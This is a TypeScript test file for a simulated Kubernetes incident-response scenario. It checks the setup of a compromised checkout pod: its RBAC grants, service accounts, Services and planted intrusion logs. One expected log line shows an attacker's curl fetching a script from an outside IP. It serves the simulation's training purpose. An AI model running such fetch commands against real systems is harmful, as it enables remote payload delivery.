import { afterEach, describe, expect, it } from "vitest";
import { buildWorld } from "./populate";
import type { World } from "../world";
import type { SimCluster } from "../kube/cluster";
import { findCompromisedPod, SHOP_GSA } from "./demo";
import { authorize, userInfo } from "../kube/rbac";
import { getContainerLog } from "./logs";
import { controllerOf, isPodReady } from "../kube/controllers/labels";

let worlds: World[] = [];
afterEach(() => {
  for (const w of worlds) w.stop();
  worlds = [];
});

function demo(seed = 1): World {
  const w = buildWorld({ scenario: "demo", seed, netpolDelaySeconds: 300 });
  worlds.push(w);
  return w;
}

const names = (c: SimCluster) => c.store.list("pods").map((p) => `${p.metadata.namespace}/${p.metadata.name}@${p.spec.nodeName}#${p.status.podIP}`);

describe("demo scenario", () => {
  it("is the same world for the same seed, and a different one for another seed", () => {
    const a = demo(1);
    const b = demo(1);
    const c = demo(2);
    for (const cluster of ["payments", "storefront"]) {
      expect(names(a.clusters.get(cluster)!)).toEqual(names(b.clusters.get(cluster)!));
      expect(names(a.clusters.get(cluster)!)).not.toEqual(names(c.clusters.get(cluster)!));
    }
    expect(findCompromisedPod(a.clusters.get("payments")!)!.metadata.name).toBe(findCompromisedPod(b.clusters.get("payments")!)!.metadata.name);
  });

  it("has two clusters as the GKE API describes them, three nodes each with GCE instances", () => {
    const w = demo();
    expect(w.project).toBe("acme-prod");
    const payments = w.gcp.gkeClusters.get("us-central1-a/payments")!;
    const storefront = w.gcp.gkeClusters.get("us-central1/storefront")!;
    expect(payments.networkConfig.datapathProvider).toBe("ADVANCED_DATAPATH");
    expect(storefront.networkConfig.datapathProvider).toBe("LEGACY_DATAPATH");
    expect(storefront.addonsConfig.networkPolicyConfig).toEqual({ disabled: true });
    for (const name of ["payments", "storefront"]) {
      const nodes = w.clusters.get(name)!.store.list("nodes");
      expect(nodes).toHaveLength(3);
      for (const n of nodes) expect([...w.gcp.instances.keys()].some((k) => k.endsWith(`/${n.metadata.name}`))).toBe(true);
    }
    const zones = w.clusters
      .get("storefront")!
      .store.list("nodes")
      .map((n) => n.metadata.labels!["topology.kubernetes.io/zone"]);
    expect(new Set(zones)).toEqual(new Set(["us-central1-a", "us-central1-b", "us-central1-c"]));
  });

  for (const seed of [1, 2, 3, 4, 5, 42, 1234]) {
    it(`puts every drain case on the compromised pod's node (seed ${seed})`, () => {
      const cluster = demo(seed).clusters.get("payments")!;
      const victim = findCompromisedPod(cluster)!;
      expect(victim.metadata.labels).toMatchObject({ app: "checkout", tier: "backend" });
      const node = victim.spec.nodeName as string;
      const here = cluster.store.list("pods", { nodeName: node });
      const kinds = here.map((p) => controllerOf(p)?.kind ?? "none");
      expect(kinds).toContain("DaemonSet");
      expect(kinds).toContain("none");
      expect(here.some((p) => p.metadata.labels?.app === "frontend")).toBe(true);
      expect(here.some((p) => (p.spec.volumes ?? []).some((v: { emptyDir?: unknown }) => v.emptyDir))).toBe(true);
      expect(here.some((p) => p.metadata.name === "debug-shell")).toBe(true);
      const otherCheckout = cluster.store
        .list("pods", { namespace: "shop" })
        .filter((p) => p.metadata.labels?.app === "checkout" && p.metadata.name !== victim.metadata.name);
      expect(otherCheckout).toHaveLength(1);
      expect(otherCheckout[0].spec.nodeName).not.toBe(node);
      expect(cluster.store.list("pods").every((p) => p.status.phase === "Running" && isPodReady(p))).toBe(true);
    });
  }

  it("has every Service type, the budget, and the allow policy that selects checkout by tier", () => {
    const cluster = demo().clusters.get("payments")!;
    const types = Object.fromEntries(cluster.store.list("services").map((s) => [s.metadata.name, s.spec.type]));
    expect(types).toMatchObject({
      kubernetes: "ClusterIP",
      frontend: "LoadBalancer",
      checkout: "ClusterIP",
      cart: "NodePort",
      "payments-gateway": "ExternalName",
    });
    expect(cluster.store.get("services", "shop", "payments-gateway")!.spec.externalName).toBe("api.stripe.example.com");
    expect(cluster.store.get("services", "shop", "frontend")!.status.loadBalancer.ingress[0].ip).toBeDefined();
    expect(cluster.store.get("policy/poddisruptionbudgets", "shop", "checkout-pdb")!.status).toMatchObject({
      currentHealthy: 2,
      desiredHealthy: 1,
      disruptionsAllowed: 1,
    });
    const np = cluster.store.get("networking.k8s.io/networkpolicies", "shop", "allow-checkout-from-frontend")!;
    expect(np.spec.podSelector).toEqual({ matchLabels: { tier: "backend" } });
    const d = cluster.store.get("apps/deployments", "shop", "checkout")!;
    expect(d.spec.selector).toEqual({ matchLabels: { app: "checkout" } });
    expect(cluster.store.get("services", "shop", "checkout")!.spec.selector).toEqual({ app: "checkout" });
  });

  it("tells the intrusion story in the compromised pod's events and logs, in the past", () => {
    const w = demo();
    const cluster = w.clusters.get("payments")!;
    const victim = findCompromisedPod(cluster)!;
    const events = cluster.store.list("events", { namespace: "shop" }).filter((e) => (e.involvedObject as { name: string }).name === victim.metadata.name);
    const reasons = events.map((e) => e.reason);
    expect(reasons).toEqual(expect.arrayContaining(["Scheduled", "Started", "SuspiciousExec", "OutboundConnection", "Unhealthy"]));
    expect(events.find((e) => e.reason === "Unhealthy")!.count).toBe(3);
    for (const e of events) expect(Date.parse(e.lastTimestamp as string)).toBeLessThanOrEqual(w.clock.now());
    const lines = getContainerLog(cluster, "shop", victim.metadata.name, "checkout");
    expect(lines.some((l) => l.line.includes("curl -s http://203.0.113.45/x.sh"))).toBe(true);
    for (const l of lines) expect(l.time).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{9}Z$/);
    expect(Date.parse(lines[lines.length - 1].time)).toBeLessThan(w.clock.now());
    const [first] = getContainerLog(cluster, "shop", victim.metadata.name, "checkout");
    expect(`${first.time} ${first.line}`).toMatch(/^\S+Z \{"level":"info","msg":"starting"/);
    const age = w.clock.now() - Date.parse(victim.metadata.creationTimestamp!);
    expect(age).toBeGreaterThan(3 * 86_400_000);
  });

  it("gives checkout's KSA a RoleBinding to read ConfigMaps and patch pods, a legacy token and a shared Workload Identity GSA", () => {
    const cluster = demo().clusters.get("payments")!;
    const victim = findCompromisedPod(cluster)!;
    expect(victim.spec.serviceAccountName).toBe("checkout");
    const sa = cluster.store.get("serviceaccounts", "shop", "checkout")!;
    expect(sa.metadata.annotations?.["iam.gke.io/gcp-service-account"]).toBe(SHOP_GSA);
    expect(cluster.store.get("serviceaccounts", "shop", "cart")!.metadata.annotations?.["iam.gke.io/gcp-service-account"]).toBe(SHOP_GSA);
    const tokens = cluster.store.list("secrets", { namespace: "shop" }).filter((s) => s.type === "kubernetes.io/service-account-token");
    expect(tokens.map((s) => s.metadata.annotations?.["kubernetes.io/service-account.name"])).toEqual(["checkout"]);
    const who = userInfo("system:serviceaccount:shop:checkout");
    expect(authorize(cluster, who, { verb: "patch", group: "", resource: "pods", namespace: "shop" }).allowed).toBe(true);
    expect(authorize(cluster, who, { verb: "get", group: "", resource: "configmaps", namespace: "shop" }).allowed).toBe(true);
    expect(authorize(cluster, who, { verb: "get", group: "", resource: "secrets", namespace: "shop" }).allowed).toBe(false);
    expect(authorize(cluster, userInfo("system:serviceaccount:shop:cart"), { verb: "patch", group: "", resource: "pods", namespace: "shop" }).allowed).toBe(
      false,
    );
  });
});
